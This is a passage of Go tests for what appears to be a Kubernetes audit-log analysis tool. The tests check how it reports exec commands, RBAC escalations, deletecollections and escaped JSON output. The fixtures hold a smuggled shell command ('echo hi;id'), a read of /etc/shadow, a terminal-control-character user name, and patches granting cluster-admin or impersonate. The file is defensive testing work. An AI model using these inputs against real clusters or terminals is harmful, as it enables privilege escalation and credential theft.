		noReceived(req(10, "alice", "create", uri).Obj("pods/exec", "production", "web").Code(101, "allow").ID("x1"), 5*time.Second),
	})
	rep, err := Execs(r, ExecsQuery{})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Execs) != 1 {
		t.Fatalf("%d rows for one request of two stages, want 1: %s", len(rep.Execs), render(t, rep, "wide"))
	}
	e := rep.Execs[0]
	if e.Stage != "ResponseComplete" || !slices.Equal(e.Stages, []string{"ResponseStarted", "ResponseComplete"}) {
		t.Errorf("stage %s, stages %v; want ResponseComplete of ResponseStarted, ResponseComplete", e.Stage, e.Stages)
	}
	// With no received time the row shows the first stage's time.
	if want := t0.Add(10 * time.Second); !e.Time.Equal(want) {
		t.Errorf("time %s, want %s (the first stage's)", e.Time, want)
	}
}

// TestActivityBindingNamesServiceAccountAsUser: RBAC takes a service
// account as a User subject by its full name
// (system:serviceaccount:NS:NAME) as well as a ServiceAccount subject; a
// binding of either form names it.
// Mutation it catches: bindingNaming looking only for "name":NAME.
func TestActivityBindingNamesServiceAccountAsUser(t *testing.T) {
	sa := "system:serviceaccount:ci:builder"
	bind := func(sec float64, name, subject string) *evb {
		return req(sec, "mallory", "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings").Obj("clusterrolebindings", "", name).
			Group("rbac.authorization.k8s.io").Level(audit.LevelRequest).Code(201, "allow").
			ReqBody(`{"kind":"ClusterRoleBinding","metadata":{"name":"` + name + `"},"roleRef":{"kind":"ClusterRole","name":"cluster-admin"},"subjects":[` + subject + `]}`)
	}
	r := openFixture(t, []*evb{
		bind(10, "as-user", `{"kind":"User","name":"`+sa+`"}`),
		bind(20, "as-sa", `{"kind":"ServiceAccount","name":"builder","namespace":"ci"}`),
		bind(30, "other", `{"kind":"User","name":"system:serviceaccount:ci:builder2"}`),
	})
	rep, err := Activity(r, ActivityQuery{User: sa})
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, q := range rep.Requests {
		names = append(names, q.Name)
	}
	if want := []string{"as-user", "as-sa"}; !slices.Equal(names, want) {
		t.Errorf("the bindings in %s's activity: %v, want %v", sa, names, want)
	}
}

// TestRBACAggregation: a ClusterRole labelled
// rbac.authorization.k8s.io/aggregate-to-NAME has its rules added to
// ClusterRole NAME by the aggregation controller (the built-in admin,
// edit and view, which many users hold), so it is flagged; and an
// aggregated ClusterRole, whose body holds an aggregationRule and no
// rules, is still read from its body.
// Mutations it catches: a body without roleRef, subjects or rules taken
// for no body; the label not read.
func TestRBACAggregation(t *testing.T) {
	r := openFixture(t, []*evb{
		req(10, "carol", "create", "/apis/rbac.authorization.k8s.io/v1/clusterroles").Obj("clusterroles", "", "secrets-reader").Group("rbac.authorization.k8s.io").
			Level(audit.LevelRequest).Code(201, "allow").
			ReqBody(`{"kind":"ClusterRole","metadata":{"name":"secrets-reader","labels":{"rbac.authorization.k8s.io/aggregate-to-edit":"true","rbac.authorization.k8s.io/aggregate-to-view":"false"}},"rules":[{"apiGroups":[""],"resources":["secrets"],"verbs":["get","list"]}]}`),
		req(20, "carol", "create", "/apis/rbac.authorization.k8s.io/v1/clusterroles").Obj("clusterroles", "", "monitoring").Group("rbac.authorization.k8s.io").
			Level(audit.LevelRequestResponse).Code(201, "allow").
			ReqBody(`{"kind":"ClusterRole","metadata":{"name":"monitoring"},"aggregationRule":{"clusterRoleSelectors":[{"matchLabels":{"example.com/aggregate-to-monitoring":"true"}}]}}`).
			RespBody(`{"kind":"ClusterRole","metadata":{"name":"monitoring","uid":"m-1"},"aggregationRule":{"clusterRoleSelectors":[{"matchLabels":{"example.com/aggregate-to-monitoring":"true"}}]},"rules":null}`),
		// A merge patch that only labels an existing role: its rules join
		// admin's, and the body says nothing of them.
		req(30, "carol", "patch", "/apis/rbac.authorization.k8s.io/v1/clusterroles/powerful").Obj("clusterroles", "", "powerful").Group("rbac.authorization.k8s.io").
			Level(audit.LevelRequest).Code(200, "allow").
			ReqBody(`{"metadata":{"labels":{"rbac.authorization.k8s.io/aggregate-to-admin":"true"}}}`),
	})
	rep, err := RBAC(r, RBACQuery{})
	if err != nil {
		t.Fatal(err)
	}
	type row struct{ Name, Flags, Body string }
	var got []row
	for _, c := range rep.Changes {
		got = append(got, row{c.Name, strings.Join(c.Flags, ","), c.Body})
	}
	want := []row{{"secrets-reader", "aggregate-to-edit", "requestObject"}, {"monitoring", "", "responseObject"}, {"powerful", "aggregate-to-admin", "requestObject"}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("rbac (-want +got):\n%s", diff)
	}
	tl, err := Timeline(r, TimelineQuery{})
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"carol created clusterrole secrets-reader with 1 rule (! aggregate-to-edit)", "carol created clusterrole monitoring aggregating other roles",
		"carol patched clusterrole powerful (! aggregate-to-admin)"}; !slices.Equal(sentences(tl), want) {
		t.Errorf("timeline %q, want %q", sentences(tl), want)
	}
}

// TestExecCommandAsTheAPIServerReadsIt: the command shown is the one the
// API server ran, which reads the query string with Go's url.Query: a
// pair holding a raw ';' or a bad %-escape is dropped, and the others
// kept. Mutation it catches: a parse of its own that keeps "echo hi;id".
func TestExecCommandAsTheAPIServerReadsIt(t *testing.T) {
	for uri, want := range map[string][]string{
		"/api/v1/namespaces/p/pods/w/exec?command=sh&command=-c&command=echo+hi;id&command=true": {"sh", "-c", "true"},
		"/api/v1/namespaces/p/pods/w/exec?command=sh&command=%zz&command=ls":                     {"sh", "ls"},
		"/api/v1/namespaces/p/pods/w/exec?command=cat&command=%2Fetc%2Fshadow":                   {"cat", "/etc/shadow"},
	} {
		e := newExec(&Request{URI: uri, Subresource: "exec", Verb: "get"})
		if !slices.Equal(e.Command, want) {
			t.Errorf("%s: command %q, want %q", uri, e.Command, want)
		}
		u, _ := url.Parse(uri)
		if got := u.Query()["command"]; !slices.Equal(got, want) {
			t.Errorf("%s: BUG in the test: url.Query gives %q", uri, got)
		}
	}
}

// TestJSONEscapesTerminalControls: -o json and -o jsonl write DEL, C1 and
// bidirectional controls as \u escapes, as query -o json does
// (docs/query.md, "Output: what reaches the terminal"): the same value,
// but a U+202E in a user name cannot reorder what the terminal shows, nor
// U+009B start a control sequence. The API's records are the same bytes.
// Mutation it catches: Write or NewAnswer without escape.JSON.
func TestJSONEscapesTerminalControls(t *testing.T) {
	user := "eve\u202egpj.exe\u009b2J\x7f"
	r := openFixture(t, []*evb{
		req(10, user, "get", "/api/v1/namespaces/p/secrets/s").Obj("secrets", "p", "s").Code(200, "allow"),
	})
	rep, err := Secrets(r, SecretsQuery{})
	if err != nil {
		t.Fatal(err)
	}
	ans, err := NewAnswer("secrets", rep, NoTable)
	if err != nil {
		t.Fatal(err)
	}
	jsonl := render(t, rep, "jsonl")
	for name, out := range map[string]string{"json": render(t, rep, "json"), "jsonl": jsonl, "API": string(ans.Records[0])} {
		if strings.ContainsAny(out, "\u202e\u009b\x7f") {
			t.Errorf("%s: a control character raw: %q", name, out)
		}
		if !strings.Contains(out, `eve\u202egpj.exe\u009b2J\u007f`) {
			t.Errorf("%s: the user not escaped as wanted: %q", name, out)
		}
	}
	if got := string(ans.Records[0]) + "\n"; got != jsonl {
		t.Errorf("API record %q, -o jsonl %q: not the same bytes", got, jsonl)
	}
	var back []SecretAccess
	if err := json.Unmarshal([]byte(render(t, rep, "json")), &back); err != nil || len(back) != 1 || back[0].User != user {
		t.Errorf("-o json decodes to %+v (%v), want the user %q", back, err, user)
	}
}

// TestWhoDeletedByCollection: a deletecollection names no object (the
// namespace controller empties a namespace that way, resource by
// resource), so "who deleted secret important" must also list the
// deletecollections of secrets in its namespace, which may have deleted
// it; history shows them too. A read of the collection is not a change.
// Mutation it catches: the name condition applied to every verb.
func TestWhoDeletedByCollection(t *testing.T) {
	nc := "system:serviceaccount:kube-system:namespace-controller"
	r := openFixture(t, []*evb{
		req(10, "alice", "create", "/api/v1/namespaces/production/secrets").Obj("secrets", "production", "important").Code(201, "allow"),
		req(20, "alice", "list", "/api/v1/namespaces/production/secrets").Obj("secrets", "production", "").Code(200, "allow"),
		req(30, nc, "deletecollection", "/api/v1/namespaces/staging/secrets").Obj("secrets", "staging", "").Code(200, "allow"),
		req(40, nc, "deletecollection", "/api/v1/namespaces/production/secrets").Obj("secrets", "production", "").Code(200, "allow"),
	})
	tg, err := ParseTarget("secret/important")
	if err != nil {
		t.Fatal(err)
	}
	rep, err := Who(r, WhoQuery{Verbs: Verbs("deleted"), Target: tg, Namespace: "production"})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"40 " + nc + " deletecollection secrets -n production ResponseComplete 200 allow"}
	if diff := cmp.Diff(want, summaries(rep.Requests)); diff != "" {
		t.Errorf("who deleted (-want +got):\n%s", diff)
	}
	rep, err = Who(r, WhoQuery{Verbs: Verbs("delete"), Target: tg, Namespace: "production"})
	if err != nil || len(rep.Requests) != 0 {
		t.Errorf("who delete (the verb alone): %v, %v; want nothing", summaries(rep.Requests), err)
	}
	h, err := History(r, HistoryQuery{Target: tg, Namespace: "production", Scope: Scope{IncludeSystem: true}})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range h.Changes {
		got = append(got, summary(c.Request))
	}
	want = []string{"10 alice create secrets/important -n production ResponseComplete 201 allow", want[0]}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("history (-want +got):\n%s", diff)
	}
}

// TestRBACJSONPatch: a JSON patch (kubectl patch --type=json) is an array
// of operations, not the object; logged at Request level it is all the
// log holds of the change. Adding oneself to an existing binding this way
// must show the subject added, and a rule or aggregate label added must
// be flagged as in an object.
// Mutation it catches: a body that is not an object skipped as no body.
func TestRBACJSONPatch(t *testing.T) {
	patch := func(sec float64, res, name, body string) *evb {
		return req(sec, "mallory", "patch", "/apis/rbac.authorization.k8s.io/v1/"+res+"/"+name).Obj(res, "", name).
			Group("rbac.authorization.k8s.io").Level(audit.LevelRequest).Code(200, "allow").ReqBody(body)
	}
	r := openFixture(t, []*evb{
		patch(10, "clusterrolebindings", "cluster-admin", `[{"op":"add","path":"/subjects/-","value":{"kind":"User","name":"eve"}}]`),
		patch(20, "clusterrolebindings", "view", `[{"op":"replace","path":"/roleRef","value":{"kind":"ClusterRole","name":"cluster-admin"}},{"op":"replace","path":"/subjects","value":[{"kind":"Group","name":"devs"}]}]`),
		patch(30, "clusterroles", "reader", `[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["*"],"verbs":["impersonate"]}},{"op":"add","path":"/metadata/labels/rbac.authorization.k8s.io~1aggregate-to-edit","value":"true"}]`),
		patch(40, "clusterroles", "other", `[{"op":"remove","path":"/rules/0"}]`),
	})
	rep, err := RBAC(r, RBACQuery{})
	if err != nil {
		t.Fatal(err)
	}
	type row struct{ Name, RoleRef, Subjects, Flags, Body string }
	var got []row
	for _, c := range rep.Changes {
		got = append(got, row{c.Name, c.RoleRef, strings.Join(c.Subjects, ","), strings.Join(c.Flags, ","), c.Body})
	}
	want := []row{
		{"cluster-admin", "", "User/eve", "", "requestObject"},
		{"view", "ClusterRole/cluster-admin", "Group/devs", "cluster-admin", "requestObject"},
		{"reader", "", "", "wildcard,grants impersonate,aggregate-to-edit", "requestObject"},
		{"other", "", "", "", "requestObject"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("rbac (-want +got):\n%s", diff)
	}
	tl, err := Timeline(r, TimelineQuery{})
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"mallory patched clusterrolebinding cluster-admin adding eve", "mallory patched clusterrolebinding view granting cluster-admin to group devs",
		"mallory patched clusterrole reader (! wildcard, grants impersonate, aggregate-to-edit)", "mallory patched clusterrole other"}; !slices.Equal(sentences(tl), want) {
		t.Errorf("timeline %q,\nwant %q", sentences(tl), want)
	}
}
